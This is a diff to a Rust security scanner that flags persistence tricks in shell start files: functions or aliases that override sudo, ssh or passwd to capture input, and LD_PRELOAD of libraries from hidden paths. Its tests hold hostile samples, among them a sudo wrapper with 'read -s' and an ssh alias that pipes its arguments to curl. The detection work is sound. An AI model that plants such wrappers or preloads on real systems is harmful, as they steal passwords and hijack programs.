@@ -1,5 +1,7 @@
 //! What runs by itself: lines of timers, services, agents of macOS, hooks.
 
+use crate::security::Language;
+
 /// The commands in a text that is written where it runs by itself.
 pub(super) fn commands(text: &str) -> String {
     let text = text
@@ -83,6 +85,56 @@ fn is_hidden(path: &str) -> bool {
         || path.contains('/') && name.starts_with('.') && name.len() > 2
 }
 
+/// The language of a program by its first line, without `#!`.
+pub(super) fn interpreter(line: &str) -> Option<Language> {
+    let words = line.split([' ', '/']).rev();
+    let mut plain =
+        words.map(|word| word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'));
+    plain.find_map(|word| match word {
+        "sh" | "bash" | "zsh" | "dash" | "ksh" => Some(Language::Shell),
+        "python" => Some(Language::Python),
+        "node" | "deno" | "bun" => Some(Language::JavaScript),
+        _ => None,
+    })
+}
+
+/// Commands that people type their passwords into, or that lead elsewhere.
+const REPLACED: &[&str] = &["sudo", "su", "ssh", "passwd", "gpg", "git", "login"];
+
+/// A command that a start file puts something else in place of, which takes
+/// down or sends what it is given.
+pub(super) fn replaced(text: &str) -> Option<&'static str> {
+    let takes = [
+        "read -s", "read -rs", "curl ", "wget ", "| nc ", ">> /tmp/", ">>/tmp/",
+    ];
+    if !takes.iter().any(|sign| text.contains(sign)) {
+        return None;
+    }
+    REPLACED.iter().copied().find(|name| {
+        text.match_indices(name).any(|(at, _)| {
+            let before = text[..at].trim_end_matches([' ', '\t']);
+            let after = text[at + name.len()..].trim_start_matches(' ');
+            let starts =
+                before.is_empty() || before.ends_with(['\n', ';']) || before.ends_with("function");
+            starts && after.starts_with("()") || before.ends_with("alias") && after.starts_with('=')
+        })
+    })
+}
+
+/// A library that a start file puts before all programs from where nobody keeps
+/// libraries.
+pub(super) fn preloads(text: &str) -> bool {
+    ["LD_PRELOAD=", "DYLD_INSERT_LIBRARIES="]
+        .iter()
+        .any(|name| {
+            text.match_indices(name).any(|(at, _)| {
+                let rest = text[at + name.len()..].trim_start_matches(['"', '\'']);
+                let end = rest.find(['"', '\'', ' ', '\n', ';']).unwrap_or(rest.len());
+                is_hidden(&rest[..end].replace("${HOME}", "~").replace("$HOME", "~"))
+            })
+        })
+}
+
 /// Whether a text holds a public key that is somebody's.
 pub(super) fn is_key(text: &str) -> bool {
     ["ssh-rsa AAAA", "ssh-ed25519 AAAA", "ecdsa-sha2-"]
@@ -115,6 +167,26 @@ mod tests {
         assert!(hidden("python3 ~/.cache/.u.py").is_some());
         assert!(hidden("flock /tmp/x.lock backup").is_none());
         assert!(hidden("~/.local/bin/backup").is_none());
+    }
+
+    #[test]
+    fn commands_are_replaced_by_what_takes_down() {
+        assert_eq!(
+            replaced("sudo() { read -s p; command sudo \"$@\"; }"),
+            Some("sudo")
+        );
+        assert_eq!(
+            replaced("alias ssh='f(){ echo \"$@\" | curl -d @- x; }; f'"),
+            Some("ssh")
+        );
+        assert_eq!(replaced("alias sudo='sudo '"), None);
+        assert_eq!(replaced("curl x; echo 'use sudo (see y)'"), None);
+    }
+
+    #[test]
+    fn libraries_are_put_before_programs_from_odd_places() {
+        assert!(preloads("export LD_PRELOAD=$HOME/.cache/.l.so"));
+        assert!(!preloads("export LD_PRELOAD=/usr/lib/libjemalloc.so.2"));
     }
 
     #[test]
